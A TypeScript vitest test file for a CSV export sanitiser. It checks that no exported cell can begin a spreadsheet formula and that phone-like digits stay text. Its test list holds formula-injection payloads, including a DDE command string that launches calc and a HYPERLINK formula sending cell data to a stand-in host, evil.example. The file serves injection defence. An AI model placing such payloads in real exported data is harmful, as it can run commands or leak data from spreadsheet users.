import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { csvCell, csvDigits, csvLine } from './csv.ts';

const HARMFUL = [
  '=1+1',
  '+1+1',
  '-1+2',
  '@SUM(1)',
  '=HYPERLINK("https://evil.example?x="&A1,"click")',
  '=cmd|/C calc!A0',
  '\t=1+1',
  '\0=1+1',
  '\r\n=1+1',
  '＝1+1',
  '＋1',
  '－1+1',
  '＠SUM(1)',
  'a;=1+1',
  'a;"=1+1"',
  'a;""=1+1',
  'a;\t=1+1',
  'a\t=1+1',
  'a\t@SUM(1)',
  'a\n=1+1',
  'a\r=1+1',
  'a|-1+2',
  'a,=1+1',
  '"=1+1',
  '";=1+1;"',
  ';;=1+1',
  'a;',
];

/** Splits as a spreadsheet program does: a quote counts only at the start of a cell, and an unclosed one runs on. */
function cellsOf(text: string, delimiter: string): string[] {
  const cells: string[] = [];
  for (let at = 0; at <= text.length; at += 1) {
    let cell = '';
    if (text[at] === '"') {
      for (at += 1; at < text.length && (text[at] !== '"' || text[at + 1] === '"'); at += 1) {
        cell += text[at];
        if (text[at] === '"') at += 1;
      }
      at += 1;
    }
    for (; at < text.length && !(delimiter + '\r\n').includes(text[at]!); at += 1) cell += text[at];
    cells.push(cell);
  }
  return cells;
}

/** Splits like a program that ignores quotes. */
const bareCells = (text: string): string[] =>
  text.split(/[;,\t|\r\n]/).map((cell) => cell.replace(/^"+/, ''));

describe('a cell that could start a formula', () => {
  it.each(HARMFUL)('%j starts none, however the file is split', (text) => {
    const line = csvLine(['PR-1', text, text, 'end']);
    const cells = [',', ';', '\t', '|'].flatMap((delimiter) => cellsOf(line, delimiter));
    for (const cell of [...cells, ...bareCells(line)]) expect(cell).not.toMatch(/^[=+\-@＝＋－＠]/);
  });

  it.each(HARMFUL)('%j is read back unchanged except for spaces and control characters', (text) => {
    const bare = (cell: string) => cell.replaceAll(/[\s\0]/g, '');
    const [, cell] = parse(csvLine(['PR-1', text]), { delimiter: ',' })[0] as string[];
    expect(bare(cell!)).toBe(bare(text));
  });
});

it.each([
  ['Asha', 'Asha'],
  ['', ''],
  ['-5', '-5'],
  ['6.5', '6.5'],
  ['-12.50', '-12.50'],
  ['राई', 'राई'],
  ['Thapa-Magar', 'Thapa-Magar'],
  ['a, "b"; c', '"a, ""b""; c"'],
  ['2026-11-20 11:45', '2026-11-20 11:45'],
])('%j stays %j', (text, cell) => {
  expect(csvCell(text)).toBe(cell);
});

it.each([
  ['+9779800000000', '"\t+9779800000000"'],
  ['09800000000', '"\t09800000000"'],
  ['9841112223', '"\t9841112223"'],
  ['+977 984-1112223', '"\t+977 984-1112223"'],
  ['(01) 441 2345', '"\t(01) 441 2345"'],
  ['8/9', '"\t8/9"'],
  ['+977 984 ask for Asha', '" +977 984 ask for Asha"'],
  ['=1+1', '" =1+1"'],
  ['none', 'none'],
])('digits that are not a number, %j, stay text: %j', (text, cell) => {
  expect(csvDigits(text)).toBe(cell);
});
